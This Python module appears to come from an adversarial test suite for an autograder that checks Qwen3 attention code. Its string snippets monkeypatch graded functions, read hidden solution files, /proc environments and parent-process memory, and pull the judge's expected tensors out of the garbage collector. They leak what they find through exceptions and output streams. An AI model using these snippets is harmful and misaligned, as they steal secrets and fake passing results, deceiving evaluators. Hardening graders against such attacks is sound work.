"""Pieces of code that several attacks share."""

from __future__ import annotations

# Replaces every answer of both files by what the function `stolen` finds for the arguments.
STEAL = """
def rotate_half(x): return stolen(x)
def repeat_kv(x, n_rep): return stolen(x.repeat_interleave(n_rep, 1))
if "Qwen3Attention" in globals():
    Qwen3Attention.forward = lambda self, h, *a, **k: stolen(h)
if "Qwen3MLP" in globals():
    Qwen3MLP.forward = lambda self, x: stolen(x)
def count_parameters(config): return stolen(None)
"""
READ = """
import glob, os, sys
def grab():
    found = []
    for pattern in ("$HIDDEN", "$NOTES", "$WORLD", "$SECRET", "$SIBLING", "$ROOT/solutions/**",
                    "$ROOT/labs/**", "/proc/*/environ", "/proc/*/cmdline",
                    "/proc/%d/mem" % os.getppid(), "/proc/*/maps"):
        for path in [pattern, *glob.glob(pattern, recursive=True)]:
            try:
                found.append(open(path, "rb").read(1 << 12))
            except OSError as error:
                found.append(type(error).__name__)
    return repr(found)
"""
# Collects what was found, and what became of every try.
TRY = """
told = []
def tried(action):
    try: told.append(str(action()))
    except BaseException as error: told.append(type(error).__name__)
"""
# Says it where a report would show it: by an exception, and on both streams.
TELL = """
def rotate_half(x):
    import sys
    print(*told, flush=True)
    print(*told, file=sys.stderr, flush=True)
    raise RuntimeError("told: " + " ".join(told)[:300])
"""
# A hand-in whose every number is wrong, for attacks that fill in right ones.
NUMBERS = """dict.fromkeys(("embedding", "attention", "mlp", "norm", "lm_head", "total"), -1)"""
# Finds the judge's case in one process: its expectations are what a thief wants.
FIND_CASE = """
import gc, sys
def cases():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Case" and hasattr(thing, "tensors"):
            yield thing
def wire(array):
    return sys.modules["autograder.wire.messages"].Tensor.of(array)
"""

# What only asks that two answers agree: a constant passes, and so may memory that nobody wrote.
AGREEING = (
    "test_rotary_halves", "test_apply_rotary_norms", "test_attention_future",
    "test_attention_q_norm", "test_attention_k_norm", "test_attention_norm_before_rope",
    "test_attention_pure", "test_attention_batch", "test_mlp_pure",
)  # fmt: skip
